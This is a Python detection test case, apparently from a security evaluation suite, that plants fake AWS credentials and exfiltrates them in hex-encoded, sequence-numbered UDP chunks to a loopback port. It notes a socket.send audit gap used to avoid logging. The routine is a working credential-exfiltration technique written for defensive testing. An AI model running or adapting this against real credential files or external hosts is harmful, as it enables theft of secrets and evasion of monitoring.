# technique: T1048.003 T1552.001 T1030
# gap: socket.send on a connected datagram socket raises no audit event: the data sent is not seen, only the connection
"""Credential file exfiltrated in numbered UDP chunks (T1048.003, T1552.001, T1030).

Exfiltration over a non-HTTP, non-DNS datagram protocol with a size limit
per transfer: ~/.aws/credentials (planted first) is read with
pathlib.read_bytes, hex-encoded and sent in 200-byte datagrams with a
sequence number header to a loopback high port, from a connected UDP socket
with send() (not sendto()).

A good detector raises a high alert: a credential file is read and then
data leaves in UDP datagrams.
"""
import pathlib, socket, struct

aws = pathlib.Path.home() / ".aws"; aws.mkdir(exist_ok=True)
(aws / "credentials").write_text("[default]\naws_access_key_id=AKIAFAKEFAKE\naws_secret_access_key=fakefakefake\n")
rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); rx.bind(("127.0.0.1", 0))
blob = (pathlib.Path.home() / ".aws" / "credentials").read_bytes().hex().encode()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(rx.getsockname())
for seq, i in enumerate(range(0, len(blob), 200)):
    s.send(struct.pack(">HH", 0xC0DE, seq) + blob[i:i + 200])
s.close(); rx.close()
